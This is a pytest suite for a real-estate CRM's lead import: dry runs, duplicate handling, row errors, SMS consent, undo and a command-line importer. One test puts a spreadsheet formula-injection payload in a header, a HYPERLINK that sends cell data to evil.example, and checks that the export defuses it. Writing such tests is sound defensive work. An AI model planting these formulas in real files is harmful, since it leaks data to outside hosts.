"""Importing an old database: dry run, import (skip or fill), duplicates, bad rows, consent,
undo, and the command. Imported contacts are dormant: nobody is messaged, enrolled or alerted."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from alerts.models import Alert
from leads.imports import services as imports
from leads.models import (
    ConsentRecord,
    ImportBatch,
    ImportRow,
    Lead,
    LeadEvent,
    Submission,
    Tag,
)
from leads.selectors import hot_queue
from realtycrm.flows.contacts import contact_log, stage_change
from realtycrm.flows.imports import batch_run_here, batch_undo, batch_work
from sequences.campaigns import Criteria, audience
from sequences.models import Enrollment, Message, Task
from tests.factories import LeadFactory

pytestmark = pytest.mark.django_db

HEADER = [
    "Name",
    "E-mail",
    "Cell Phone",
    "Address",
    "Zip Code",
    "Tags",
    "Notes",
    "Agent",
    "Type",
    "Last Contacted",
]
ROWS = [
    [
        "Smith, John",
        "John@Example.com",
        "(413) 555-0187",
        "12 Main St",
        "01103",
        "VIP; pool",
        "Sold them 12 Main in 2019",
        "alex",
        "Past Client",
        "03/15/2023",
    ],
    ["Mary Ann Jones", "mary@example.com", "", "", "", "", "", "", "SOI", "2024-01-05"],
    ["Bad Email", "not-an-email", "", "", "", "", "", "", "", ""],
    ["John Again", "john@example.com", "", "", "", "", "", "", "", ""],
    ["Nobody", "", "", "", "", "", "", "", "", ""],
    ["Ghost Owner", "ghost@example.com", "", "", "", "", "", "casper", "", ""],
    ["Phone Only", "", "413.555.0199", "", "", "", "", "", "Old lead", ""],
]
WORDING = "Yes, text me about homes. Msg & data rates may apply. Reply STOP to opt out."


def csv_bytes(rows, header=HEADER) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def checked(content, user, *, name="contacts.csv", **options) -> ImportBatch:
    batch = imports.batch_upload(user=user, name=name, content=content)
    mapping = options.pop("mapping", batch.mapping)
    imports.batch_configure(batch, mapping=mapping, **options)
    imports.batch_check(batch)
    return batch_run_here(batch)


def imported(batch) -> ImportBatch:
    imports.batch_start(batch)
    return batch_run_here(batch)


def outcomes(batch) -> dict:
    return {row.number: (row.outcome, row.detail) for row in batch.rows.order_by("number")}


def counts() -> dict:
    models = (Lead, LeadEvent, Tag, ConsentRecord, Submission, Message, Enrollment, Task, Alert)
    return {model.__name__: model.objects.count() for model in models}


def test_the_dry_run_says_what_each_row_would_be_and_writes_nothing(broker, alex):
    existing = LeadFactory(first_name="Maria", email="mary@example.com", phone="")
    before = counts()
    batch = checked(csv_bytes(ROWS), broker)
    assert counts() == before
    assert batch.status == ImportBatch.Status.DRY_RUN
    assert outcomes(batch) == {
        2: ("new", ""),
        3: ("match", f"{existing} (lead #{existing.pk})"),
        4: ("error", "Email “not-an-email” is not a valid address"),
        5: ("duplicate", "Same email as row 2"),
        6: ("error", "No email and no phone: a contact needs one of them"),
        7: ("error", "Owner “casper” is not an active agent's username"),
        8: ("new", ""),
    }
    assert batch.dry_run == {"new": 2, "match": 1, "duplicate": 1, "error": 3}
    assert batch.rows.get(number=3).lead == existing


def test_the_import_creates_dormant_contacts_that_asked_for_nothing(
    broker, alex, sam, mailoutbox, sms_outbox
):
    batch = imported(checked(csv_bytes(ROWS), broker, owner=sam))
    assert (batch.status, batch.created, batch.updated, batch.skipped, batch.errors) == (
        "done",
        3,
        0,
        1,
        3,
    )
    john = Lead.objects.get(email="john@example.com")
    assert (john.first_name, john.last_name, john.phone) == ("John", "Smith", "+14135550187")
    assert (john.property_address, john.postal_code) == ("12 Main St", "01103")
    assert (john.source, john.channel, john.timeline, john.intent) == (
        "reactivation",
        "import",
        "unknown",
        "unknown",
    )
    assert john.dormant and john.imported_at and john.created_at == john.imported_at
    assert john.relationship == "past_client"
    assert john.owner == alex  # named by the file; the others get the importer's choice
    assert Lead.objects.get(email="mary@example.com").owner == sam
    assert timezone.localtime(john.last_personal_contact_at).date().isoformat() == "2023-03-15"
    assert john.first_personal_contact_at is None  # the hot queue still takes it if it re-engages
    assert john.attribution == {"import": batch.pk}
    assert sorted(john.tags.values_list("name", flat=True)) == ["VIP", "pool"]
    kinds = sorted(john.events.values_list("kind", "summary"))
    assert kinds == [
        ("imported", "Imported from contacts.csv, row 2 (past client)"),
        ("note", "Imported note: Sold them 12 Main in 2019"),
    ]
    assert Lead.objects.get(phone="+14135550199").relationship == "past_lead"
    # Nothing asked for, nothing sent or queued: no acknowledgment, track, task or alert.
    assert Message.objects.count() == Enrollment.objects.count() == 0
    assert Task.objects.count() == Alert.objects.count() == 0
    assert mailoutbox == [] and list(sms_outbox) == []
    assert not john.can_text and john.can_email


def test_skip_keeps_the_lead_we_have_as_it_is(broker, alex):
    lead = LeadFactory(first_name="Maria", last_name="", email="mary@example.com", phone="")
    before = (lead.first_name, lead.last_name, lead.relationship, lead.updated_at)
    batch = imported(checked(csv_bytes(ROWS[:2]), broker))
    lead.refresh_from_db()
    assert (lead.first_name, lead.last_name, lead.relationship, lead.updated_at) == before
    assert (batch.created, batch.updated, batch.skipped) == (1, 0, 1)
    assert not lead.events.exists() and not lead.dormant


def test_fill_only_fills_empty_fields_and_never_overwrites(broker, alex):
    lead = LeadFactory(
        first_name="Johnny", last_name="", email="john@example.com", phone="", postal_code=""
    )
    batch = imported(checked(csv_bytes(ROWS[:1]), broker, on_duplicate="fill"))
    lead.refresh_from_db()
    assert (batch.created, batch.updated) == (0, 1)
    assert lead.first_name == "Johnny"  # what an agent recorded stays
    assert (lead.last_name, lead.phone, lead.postal_code) == ("Smith", "+14135550187", "01103")
    assert lead.relationship == "past_client" and not lead.dormant
    assert lead.property_address != "12 Main St"  # it had one
    assert sorted(lead.tags.values_list("name", flat=True)) == ["VIP", "pool"]
    filled = lead.events.get(kind=LeadEvent.Kind.CONTACT_UPDATED)
    assert filled.data["filled"]["phone"] == "+14135550187"
    assert "first_name" not in filled.data["filled"]
    assert lead.events.filter(kind=LeadEvent.Kind.NOTE).count() == 1
    # The same file again: nothing left to fill, no second copy of the note.
    again = imported(checked(csv_bytes(ROWS[:1]), broker, on_duplicate="fill"))
    assert (again.updated, again.skipped) == (0, 1)
    assert lead.events.filter(kind=LeadEvent.Kind.NOTE).count() == 1


def test_fill_never_takes_a_phone_another_lead_has(broker, alex):
    LeadFactory(email="other@example.com", phone="+14135550187")
    lead = LeadFactory(email="john@example.com", phone="")
    batch = checked(csv_bytes(ROWS[:1]), broker, on_duplicate="fill")
    assert outcomes(batch)[2][0] == "match"
    imported(batch)
    lead.refresh_from_db()
    assert lead.phone == ""


def test_duplicates_within_the_file_by_email_or_phone_first_row_wins(broker):
    rows = [
        ["Ann Lee", "ann@example.com", "413-555-0101"],
        ["Ann L.", "ANN@example.com", ""],
        ["Bob Lee", "bob@example.com", "(413) 555-0101"],
        ["Bad", "nope", "413-555-0102"],
        ["Cat Lee", "cat@example.com", "413-555-0102"],  # the bad row above took nothing
    ]
    batch = imported(checked(csv_bytes(rows, header=["Name", "Email", "Phone"]), broker))
    assert outcomes(batch) == {
        2: ("new", ""),
        3: ("duplicate", "Same email as row 2"),
        4: ("duplicate", "Same phone as row 2"),
        5: ("error", "Email “nope” is not a valid address"),
        6: ("new", ""),
    }
    assert sorted(Lead.objects.values_list("email", flat=True)) == [
        "ann@example.com",
        "cat@example.com",
    ]


def test_a_tag_spelled_in_several_cases_is_one_tag_named_as_the_first_row_spells_it(broker):
    """Which spelling names the tag must not depend on the process (a set's order changes
    with Python's hash seed): the first row's wins, and a tag we already have keeps its name."""
    Tag.objects.create(name="VIP")
    spellings = ["spring list", "Spring List", "SPRING LIST", "Spring list", "spring List"]
    rows = [
        [f"Contact {index}", f"c{index}@example.com", f"{spelling}; vip"]
        for index, spelling in enumerate(spellings)
    ]
    imported(checked(csv_bytes(rows, header=["Name", "Email", "Tags"]), broker))
    assert set(Tag.objects.values_list("name", flat=True)) == {"VIP", "spring list"}
    assert Lead.objects.filter(tags__name="spring list").count() == len(spellings)
    assert Lead.objects.filter(tags__name="VIP").count() == len(spellings)


def test_a_lead_arriving_between_the_dry_run_and_the_import_is_a_match(broker, alex):
    batch = checked(csv_bytes(ROWS[:2]), broker)
    LeadFactory(email="john@example.com", phone="")
    batch = imported(batch)
    assert (batch.created, batch.skipped) == (1, 1)
    assert Lead.objects.filter(email="john@example.com").count() == 1


def test_bad_rows_are_reported_with_reasons_while_good_rows_import(broker, alex):
    batch = imported(checked(csv_bytes(ROWS), broker))
    text = imports.failed_rows_text(batch)
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == [*HEADER, "row", "outcome", "reason"]
    assert [(line[0], line[-3], line[-1]) for line in lines[1:]] == [
        ("Bad Email", "4", "Email “not-an-email” is not a valid address"),
        ("John Again", "5", "Same email as row 2"),
        ("Nobody", "6", "No email and no phone: a contact needs one of them"),
        ("Ghost Owner", "7", "Owner “casper” is not an active agent's username"),
    ]
    assert Lead.objects.count() == 3


def test_an_overlong_email_is_a_row_error_while_the_good_rows_import(broker):
    """Django's validator takes addresses of up to 320 characters; the lead's column takes 254
    (on PostgreSQL a longer one would stop the whole import)."""
    long_email = "a" * 60 + "@" + ("b" * 60 + ".") * 4 + "com"
    rows = [["Good", "good@example.com"], ["Long", long_email]]
    batch = checked(csv_bytes(rows, header=["Name", "Email"]), broker)
    assert batch.status == ImportBatch.Status.DRY_RUN
    assert outcomes(batch)[3] == ("error", "Email is longer than 254 characters")
    batch = imported(batch)
    assert list(Lead.objects.values_list("email", flat=True)) == ["good@example.com"]


def test_a_cell_a_spreadsheet_would_run_is_defused_in_the_failed_rows(broker):
    rows = [['=HYPERLINK("x")', "nope", ""]]
    batch = imported(checked(csv_bytes(rows, header=["Name", "Email", "Phone"]), broker))
    assert "'=HYPERLINK" in imports.failed_rows_text(batch)


def test_a_header_a_spreadsheet_would_run_is_defused_in_the_failed_rows(broker):
    header = ["Email", '=HYPERLINK("http://evil.example/?x="&A2,"Click")']
    rows = [["good@example.com", "x"], ["not-an-email", "y"]]
    batch = imported(checked(csv_bytes(rows, header=header), broker))
    first_line = next(csv.reader(io.StringIO(imports.failed_rows_text(batch))))
    assert first_line[:2] == ["Email", '\'=HYPERLINK("http://evil.example/?x="&A2,"Click")']


def test_consent_comes_only_from_a_consent_column_with_a_date(broker):
    rows = [
        ["Ann Lee", "ann@example.com", "413-555-0101", "01/02/2022"],
        ["Bob Lee", "bob@example.com", "413-555-0102", ""],
        ["Cat Lee", "cat@example.com", "", "01/02/2022"],  # no phone: nothing to text
    ]
    content = csv_bytes(rows, header=["Name", "Email", "Phone", "SMS Consent Date"])
    batch = imported(checked(content, broker, consent_wording=WORDING))
    ann, bob, cat = (Lead.objects.get(email=f"{n}@example.com") for n in ("ann", "bob", "cat"))
    assert ann.can_text and not bob.can_text and not cat.can_text
    assert bob.sms_consent_at is None and cat.sms_consent_at is None
    record = ConsentRecord.objects.get()
    assert record.lead == ann and record.wording == WORDING
    assert record.wording_version == f"import-{batch.pk}"
    assert timezone.localtime(record.given_at).date().isoformat() == "2022-01-02"
    assert record.evidence == {"import": batch.pk, "row": 2, "column": "SMS Consent Date"}
    assert record.submission.channel == "import" and record.submission == batch.submission
    assert ann.events.filter(kind=LeadEvent.Kind.CONSENT_GIVEN).exists()


def test_without_the_wording_a_consent_column_counts_for_nothing(broker):
    content = csv_bytes(
        [["Ann Lee", "ann@example.com", "413-555-0101", "01/02/2022"]],
        header=["Name", "Email", "Phone", "SMS Consent Date"],
    )
    batch = imports.batch_upload(user=broker, name="c.csv", content=content)
    assert imports.mapping_problems(batch.headers, batch.mapping, "")  # the page asks for it
    mapping = [key if key != "sms_consent" else "" for key in batch.mapping]
    imports.batch_configure(batch, mapping=mapping)
    imports.batch_check(batch)
    imported(batch_run_here(batch))
    assert not Lead.objects.get().can_text and not ConsentRecord.objects.exists()


def test_an_excel_workbook_imports_like_a_csv(broker):
    workbook = openpyxl.Workbook()
    workbook.active.append(["First Name", "Last Name", "Email", "Mobile", "Last Contact Date"])
    workbook.active.append(
        [
            "Ann",
            "Lee",
            "ann@example.com",
            4135550101,
            timezone.now().replace(year=2022, tzinfo=None),
        ]
    )
    out = io.BytesIO()
    workbook.save(out)
    batch = imported(checked(out.getvalue(), broker, name="contacts.xlsx"))
    assert batch.file_type == "xlsx" and batch.created == 1
    ann = Lead.objects.get()
    assert (ann.first_name, ann.phone, ann.last_personal_contact_at.year) == (
        "Ann",
        "+14135550101",
        2022,
    )


def test_undo_removes_exactly_the_batchs_contacts_and_reverts_its_fills(
    broker, alex, django_capture_on_commit_callbacks
):
    mine = LeadFactory(email="someone@example.com")
    filled = LeadFactory(email="mary@example.com", phone="", last_name="", relationship="")
    other = imported(
        checked(
            csv_bytes([["Zed", "zed@example.com", ""]], header=["Name", "Email", "Phone"]), broker
        )
    )
    batch = imported(checked(csv_bytes(ROWS), broker, on_duplicate="fill"))
    filled.refresh_from_db()
    assert (filled.last_name, filled.relationship) == ("Jones", "sphere")
    with django_capture_on_commit_callbacks(execute=True):
        assert batch_undo(batch) == ""  # in the background (sync in tests)
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.UNDONE and batch.undone_at
    assert set(Lead.objects.values_list("email", flat=True)) == {
        "someone@example.com",
        "mary@example.com",
        "zed@example.com",
    }
    filled.refresh_from_db()
    assert (filled.last_name, filled.relationship) == ("", "")
    assert not filled.events.filter(data__import=batch.pk).exists()
    assert mine.events.count() == 0
    assert other.status == "done" and Lead.objects.filter(attribution__import=other.pk).exists()


def test_undo_keeps_a_filled_field_an_agent_changed_since(
    broker, alex, django_capture_on_commit_callbacks
):
    lead = LeadFactory(email="mary@example.com", last_name="")
    batch = imported(checked(csv_bytes(ROWS[1:2]), broker, on_duplicate="fill"))
    Lead.objects.filter(pk=lead.pk).update(last_name="Jones-Okafor")
    with django_capture_on_commit_callbacks(execute=True):
        batch_undo(batch)
    lead.refresh_from_db()
    assert lead.last_name == "Jones-Okafor"


def test_undo_keeps_a_contact_an_agent_worked_while_it_ran_and_says_so(broker, alex):
    batch = imported(checked(csv_bytes(ROWS[:2]), broker))
    john = Lead.objects.get(email="john@example.com")
    assert batch_undo(batch) == ""  # queued (on commit): the worker has not run yet
    contact_log(john, channel="call", actor=alex, note="Talked for 20 minutes: wants to sell")
    batch = batch_run_here(ImportBatch.objects.get(pk=batch.pk))
    assert batch.status == ImportBatch.Status.UNDONE
    assert list(Lead.objects.values_list("email", flat=True)) == ["john@example.com"]
    assert f"lead #{john.pk} has re-engaged or been worked" in batch.error


def test_no_campaign_reaches_the_contacts_of_an_import_being_undone(broker):
    batch = imported(checked(csv_bytes(ROWS[:2]), broker))
    assert audience(Criteria()).exists()
    assert batch_undo(batch) == ""  # the worker has not run yet
    assert not audience(Criteria()).exists()


def test_undo_reverts_fills_a_chunk_at_a_time_and_resumes(broker):
    leads = [LeadFactory(email=f"c{i}@example.com", first_name="", phone="") for i in range(5)]
    rows = [[f"Dana{i}", f"c{i}@example.com", ""] for i in range(5)]
    batch = imported(
        checked(
            csv_bytes(rows, header=["First Name", "Email", "Phone"]), broker, on_duplicate="fill"
        )
    )
    assert batch.updated == 5
    assert batch_undo(batch) == ""
    batch = ImportBatch.objects.get(pk=batch.pk)
    with CaptureQueriesContext(connection) as first:
        assert imports.undo_step(batch, chunk=2) is False
    names = sorted(Lead.objects.values_list("first_name", flat=True))
    assert names == ["", "", "Dana2", "Dana3", "Dana4"]
    while not imports.undo_step(batch, chunk=2):
        pass
    assert set(Lead.objects.values_list("first_name", flat=True)) == {""}
    assert len(leads) == Lead.objects.count() and batch.status == ImportBatch.Status.UNDONE
    assert len(first.captured_queries) < 30  # a chunk's cost is its chunk's, not the batch's


def test_undo_of_a_fill_removes_the_tag_it_linked_whatever_its_case(broker):
    Tag.objects.create(name="VIP")
    lead = LeadFactory(email="dana@example.com", phone="")
    batch = imported(
        checked(
            csv_bytes([["dana@example.com", "vip"]], header=["Email", "Tags"]),
            broker,
            on_duplicate="fill",
        )
    )
    assert list(lead.tags.values_list("name", flat=True)) == ["VIP"]
    assert batch_undo(batch) == ""
    batch_run_here(batch)
    assert not lead.tags.exists()


def _filled_with_consent(broker):
    lead = LeadFactory(email="dana@example.com", phone="+14135550142", sms_consent_at=None)
    batch = imported(
        checked(
            csv_bytes([["dana@example.com", "01/02/2022"]], header=["Email", "SMS Opt-In"]),
            broker,
            on_duplicate="fill",
            consent_wording=WORDING,
        )
    )
    lead.refresh_from_db()
    assert lead.sms_consent_at is not None and ConsentRecord.objects.filter(lead=lead).exists()
    return lead, batch


def _text(lead, key):
    return Message.objects.create(
        lead=lead,
        channel="sms",
        to=lead.phone,
        body="Hi",
        purpose="one_off",
        status="sent",
        idempotency_key=key,
    )


def test_undo_is_refused_once_a_text_went_under_the_consent_a_fill_recorded(broker):
    lead, batch = _filled_with_consent(broker)
    _text(lead, "x1")
    assert "was texted under the consent it recorded" in batch_undo(batch)
    assert ConsentRecord.objects.filter(lead=lead).exists()


def test_undo_keeps_the_consent_of_a_fill_a_text_went_under_while_it_ran(broker):
    lead, batch = _filled_with_consent(broker)
    assert batch_undo(batch) == ""  # the worker has not run yet
    _text(lead, "x2")
    batch_run_here(ImportBatch.objects.get(pk=batch.pk))
    lead.refresh_from_db()
    assert lead.sms_consent_at is not None
    assert ConsentRecord.objects.filter(lead=lead).exists()
    assert lead.events.filter(kind="consent_given").exists()


@pytest.mark.parametrize("work", ["contact", "stage", "message", "task"])
def test_undo_is_refused_once_someone_worked_a_contact(broker, alex, work):
    batch = imported(checked(csv_bytes(ROWS[:2]), broker))
    john = Lead.objects.get(email="john@example.com")
    if work == "contact":
        contact_log(john, channel="call", actor=alex, note="Still in town")
    elif work == "stage":
        stage_change(john, Lead.Stage.CONTACTED, actor=alex)
    elif work == "message":
        Message.objects.create(
            lead=john, channel="email", to=john.email, body="Hi", idempotency_key="x"
        )
    else:
        Task.objects.create(lead=john, agent=alex, kind="call", title="Call", due_at=timezone.now())
    why = batch_undo(batch)
    assert why.startswith(f"This import cannot be undone: {john} (lead #{john.pk})")
    batch.refresh_from_db()
    assert batch.status == "done" and Lead.objects.filter(pk=john.pk).exists()


def test_the_import_resumes_where_a_worker_stopped(broker, monkeypatch):
    monkeypatch.setattr(imports, "IMPORT_CHUNK", 2)
    monkeypatch.setattr(imports, "DRY_RUN_CHUNK", 3)
    rows = [[f"Person {n}", f"p{n}@example.com", ""] for n in range(7)]
    batch = imports.batch_upload(
        user=broker, name="c.csv", content=csv_bytes(rows, header=["Name", "Email", "Phone"])
    )
    imports.batch_configure(batch, mapping=batch.mapping)
    imports.batch_check(batch)
    assert batch_work(batch.pk, budget_seconds=0) is True  # one chunk, then a fresh task
    batch.refresh_from_db()
    assert (batch.status, batch.rows_processed) == ("checking", 3)
    while batch_work(batch.pk, budget_seconds=0):
        pass
    imports.batch_start(ImportBatch.objects.get(pk=batch.pk))
    assert batch_work(batch.pk, budget_seconds=0) is True
    batch.refresh_from_db()
    assert (batch.status, batch.created, batch.percent) == ("running", 2, 28)
    assert batch_work(batch.pk, budget_seconds=0) is True
    batch.refresh_from_db()
    # A second worker given the same batch (a redelivered task) goes on from the cursor.
    while batch_work(batch.pk, budget_seconds=0):
        pass
    batch.refresh_from_db()
    assert (batch.status, batch.created) == ("done", 7)
    assert Lead.objects.count() == 7 and ImportRow.objects.filter(batch=batch).count() == 7


def test_a_failure_is_kept_on_the_batch_and_it_can_go_on(broker, alex, monkeypatch):
    batch = checked(csv_bytes(ROWS[:2]), broker)
    imports.batch_start(batch)

    def broken(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(imports, "_import_rows", broken)
    batch = batch_run_here(batch)
    assert (batch.status, batch.failed_during) == ("failed", "queued")  # its chunk rolled back
    assert "database went away" in batch.error
    monkeypatch.undo()
    imports.batch_retry(batch)
    batch = batch_run_here(batch)
    assert (batch.status, batch.created) == ("done", 2)


def test_dormant_contacts_stay_out_of_the_hot_queue(broker, alex):
    imported(checked(csv_bytes(ROWS[:1]), broker))
    Lead.objects.update(intent=Lead.Intent.HOT)  # even if something marked it hot
    assert hot_queue(alex) == ([], 0)


# --- manage.py import_leads -----------------------------------------------------------------------


def run_command(*args) -> list[str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("import_leads", *args, stdout=out, stderr=err)
    return out.getvalue().splitlines()


def test_the_command_imports_and_ends_with_the_counts(tmp_path, alex, sam):
    path = tmp_path / "contacts.csv"
    path.write_bytes(csv_bytes(ROWS))
    lines = run_command(str(path), "--owner", "sam")
    assert lines[-1] == "3 created, 0 updated, 1 skipped, 3 errors"
    assert "Row 4: error: Email “not-an-email” is not a valid address" in lines
    assert Lead.objects.get(email="mary@example.com").owner == sam


def test_the_commands_dry_run_writes_nothing(tmp_path, alex):
    LeadFactory(email="mary@example.com")
    path = tmp_path / "contacts.csv"
    path.write_bytes(csv_bytes(ROWS))
    before = counts()
    lines = run_command(str(path), "--dry-run", "--on-duplicate", "fill")
    assert lines[-1] == "2 created, 1 updated, 1 skipped, 3 errors"
    assert counts() == before and not ImportBatch.objects.exists()


def test_the_command_records_consent_only_with_the_wording(tmp_path):
    path = tmp_path / "contacts.csv"
    content = csv_bytes(
        [["Ann", "ann@example.com", "413-555-0101", "2022-01-02"]],
        header=["Name", "Email", "Phone", "Text Opt-In"],
    )
    path.write_bytes(content)
    assert run_command(str(path))[-1] == "1 created, 0 updated, 0 skipped, 0 errors"
    assert not Lead.objects.get().can_text
    Lead.objects.all().delete()
    run_command(str(path), "--consent-wording", WORDING)
    assert Lead.objects.get().can_text


def test_the_command_refuses_a_file_it_cannot_read(tmp_path):
    path = tmp_path / "contacts.pdf"
    path.write_bytes(b"%PDF-1.4")
    with pytest.raises(Exception, match="Upload a CSV file"):
        run_command(str(path))


def test_the_command_takes_only_an_active_agent_as_the_owner(tmp_path, alex):
    """Like the page's owner choices: a departed agent's contacts would go unseen."""
    alex.agent.active = False
    alex.agent.save()
    path = tmp_path / "contacts.csv"
    path.write_bytes(csv_bytes(ROWS[1:2]))
    with pytest.raises(CommandError, match="No active agent with the username 'alex'"):
        run_command(str(path), "--owner", "alex")
    assert not Lead.objects.exists()


def test_recent_last_contact_is_kept_as_the_last_personal_contact(broker):
    when = (timezone.localtime() - timedelta(days=3)).strftime("%m/%d/%Y")
    imported(
        checked(
            csv_bytes(
                [["Ann", "ann@example.com", "", when]],
                header=["Name", "Email", "Phone", "Last Contacted"],
            ),
            broker,
        )
    )
    lead = Lead.objects.get()
    assert timezone.localtime(lead.last_personal_contact_at).strftime("%m/%d/%Y") == when
